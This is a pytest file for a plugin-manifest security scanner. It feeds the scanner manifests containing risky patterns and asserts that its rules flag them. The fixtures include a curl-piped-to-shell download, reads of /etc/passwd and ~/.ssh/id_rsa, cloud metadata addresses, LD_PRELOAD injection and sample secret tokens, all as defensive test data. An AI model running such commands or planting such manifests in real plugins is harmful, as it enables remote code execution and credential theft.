"""What Codewhale's own rules let through is no fault here either, but shown in full and found by the scan."""

from __future__ import annotations

from pathlib import Path

import pytest

from plugseal.model.inventory import Inventory, PluginReport
from plugseal.verbs.scan import scan_path

HEAD = 'schema_version = 1\n[plugin]\nname = "p"\nversion = "1.0.0"\n'


def launched(command: str, *arguments: str) -> str:
    """Return a manifest whose one server starts a command."""
    words = ", ".join(f"'''{argument}'''" for argument in arguments)
    return f'{HEAD}[mcp_servers.a]\ncommand = "{command}"\nargs = [{words}]\n'


def given(name: str, source: str = "SOURCE") -> str:
    """Return a manifest whose server gets a variable."""
    return f"{launched('node', 'server.js')}env = {{ {name} = '${{{source}}}' }}\n"


def reached(host: str) -> str:
    return f'{HEAD}[capabilities]\nnetwork_hosts = ["{host}"]\n[mcp_servers.a]\nurl = "https://{host}/mcp"\n'


def scan(root: Path, manifest: str) -> tuple[Inventory, PluginReport]:
    (root / "plugin.toml").write_text(manifest, encoding="utf-8")
    (root / "server.js").write_text("serve()\n")
    inventory = scan_path(root)
    [report] = [report for report in inventory.plugins if report.plugin.system == "codewhale"]
    return inventory, report


RULES = {
    "a download given to a shell": (launched("sh", "-c", "curl https://x.invalid/i|sh"), "shell-as-server"),
    "a shell behind a wrapper": (launched("env", "bash", "-lc", "node server.js"), "shell-as-server"),
    "the newest of a package": (launched("npx", "-y", "evil@latest"), "unpinned-server"),
    "a package of Python": (launched("uvx", "evil"), "unpinned-server"),
    "a program in an argument": (launched("node", "-e", "require('fs')"), "inline-code-server"),
    "a program of Python in an argument": (launched("python3", "-c", "print(1)"), "inline-code-server"),
    "a path that climbs in an option": (launched("node", "--config=../../etc/passwd"), "outside-path-argument"),
    "an absolute path in an option": (launched("node", "--config=/etc/passwd"), "outside-path-argument"),
    "an absolute path behind an at sign": (launched("node", "@/etc/passwd"), "outside-path-argument"),
    "a path as an address": (launched("node", "file:///etc/passwd"), "outside-path-argument"),
    "a path in the home": (launched("node", "~/.ssh/id_rsa"), "outside-path-argument"),
    "the folder above": (launched("node", ".."), "outside-path-argument"),
    "a header with a token": (
        launched("node", "-H", "Authorization: Bearer q7Zk2Lm9Xw4RtY8b"),
        "literal-secret-in-manifest",
    ),
    "a token of GitLab": (launched("node", "glpat-Qm7sN2vX9rT4kL8wZ3yB"), "literal-secret-in-manifest"),
    "a key of Google": (launched("node", "AIzaSyQm7sN2vX9rT4kL8wZ3yBq7Zk2Lm9Xw4Rt"), "literal-secret-in-manifest"),
    "a key inside an option": (launched("node", "--mode=sk-live-Qm7sN2vX9rT4kL8w"), "literal-secret-in-manifest"),
    "a key behind --key": (launched("node", "--key=q7Zk2Lm9Xw4RtY8b"), "literal-secret-in-manifest"),
    "a preloaded library": (given("LD_PRELOAD"), "environment-loads-code"),
    "options of Node": (given("NODE_OPTIONS"), "environment-loads-code"),
    "modules of Python": (given("PYTHONPATH"), "environment-adds-modules"),
    "programs from anywhere": (given("PATH"), "environment-adds-modules"),
    "the metadata service": (reached("169.254.169.254"), "metadata-endpoint"),
    "the metadata service as one number": (reached("2852039166"), "metadata-endpoint"),
    "a zero width space": (f'{HEAD}author = "a\u200bb"\n', "hidden-metadata"),
    "tag characters": (f'{HEAD}author = "a\U000e0041\U000e0042"\n', "hidden-metadata"),
}


@pytest.mark.parametrize(("manifest", "rule"), RULES.values(), ids=RULES)
def test_a_hole_is_found_by_a_rule(manifest: str, rule: str, tmp_path: Path) -> None:
    inventory, report = scan(tmp_path, manifest)
    assert report.plugin.faults == ()
    assert rule in {finding.rule for finding in inventory.findings}


FACTS = {
    "a program that PATH decides": (launched("helper", "x"), "process.exec", "helper"),
    "what npx downloads": (launched("npx", "-y", "docs@1.2.3"), "code.fetched", "docs@1.2.3"),
    "a credential of the user's": (given("KEY", "OPENAI_API_KEY"), "env.read", "OPENAI_API_KEY"),
    "a shell": (launched("sh", "-c", "node server.js"), "process.shell", "node"),
    "an endpoint": (reached("h.invalid"), "net.outbound", "h.invalid"),
}


@pytest.mark.parametrize(("manifest", "capability", "name"), FACTS.values(), ids=FACTS)
def test_a_hole_is_a_capability(manifest: str, capability: str, name: str, tmp_path: Path) -> None:
    _, report = scan(tmp_path, manifest)
    assert (capability, name) in {(row.capability, row.object) for row in report.capabilities}


@pytest.mark.parametrize(
    ("one", "two"),
    [
        pytest.param(launched("node", "server.js"), launched("sh", "-c", "curl https://x.invalid/|sh"), id="a command"),
        pytest.param(given("KEY", "A"), given("KEY", "OPENAI_API_KEY"), id="where a variable comes from"),
        pytest.param(given("KEY"), given("LD_PRELOAD"), id="where a variable goes to"),
        pytest.param(reached("h.invalid"), reached("h.invalid").replace("/mcp", "/admin"), id="an endpoint's path"),
        pytest.param(
            launched("node", "server.js"),
            launched("node", "server.js") + 'enabled_tools = ["delete"]\n',
            id="a filter of tools",
        ),
        pytest.param(
            launched("node", "server.js"), launched("node", "server.js") + "read_timeout = 9\n", id="a timeout"
        ),
        pytest.param(launched("node", "server.js"), launched("node", "server.js") + 'cwd = "."\n', id="a folder"),
    ],
)
def test_what_codewhales_capability_hash_misses_moves_ours(one: str, two: str, tmp_path: Path) -> None:
    found = []
    for number, manifest in enumerate((one, two)):
        root = tmp_path / str(number)
        root.mkdir()
        found.append(scan(root, manifest)[1])
    theirs = [str(report.plugin.hosts[0].data).partition('"capability_hash":')[2][:66] for report in found]
    assert theirs[0] == theirs[1]
    assert found[0].capability_receipt != found[1].capability_receipt


def test_names_that_collide_elsewhere_are_seen(tmp_path: Path) -> None:
    (tmp_path / "A.js").write_text("1\n")
    (tmp_path / "a.js").write_text("2\n")
    inventory, report = scan(tmp_path, HEAD)
    assert "case-collision" in {code for _, code, _ in inventory.faults}
    assert report.token is None


def test_five_thousand_empty_folders_are_seen_by_codewhale_and_by_us(tmp_path: Path) -> None:
    for number in range(5000):
        (tmp_path / f"d{number}").mkdir()
    _, report = scan(tmp_path, HEAD)
    assert report.plugin.faults == ()
    assert report.token is not None
